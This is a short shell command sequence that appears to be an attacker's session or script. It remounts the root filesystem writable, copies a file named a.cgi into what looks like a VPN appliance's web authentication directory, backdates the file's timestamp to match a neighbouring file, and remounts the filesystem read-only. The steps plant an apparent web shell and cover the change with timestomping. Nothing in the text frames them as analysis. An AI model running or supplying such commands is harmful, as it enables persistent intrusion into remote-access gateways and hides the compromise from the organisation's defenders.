exit
mount -o remount,rw /
cp /tmp/a.cgi /home/webserver/htdocs/dana-na/auth/a.cgi
touch -r /home/webserver/htdocs/dana-na/auth/b.cgi /home/webserver/htdocs/dana-na/auth/a.cgi
mount -o remount,ro /
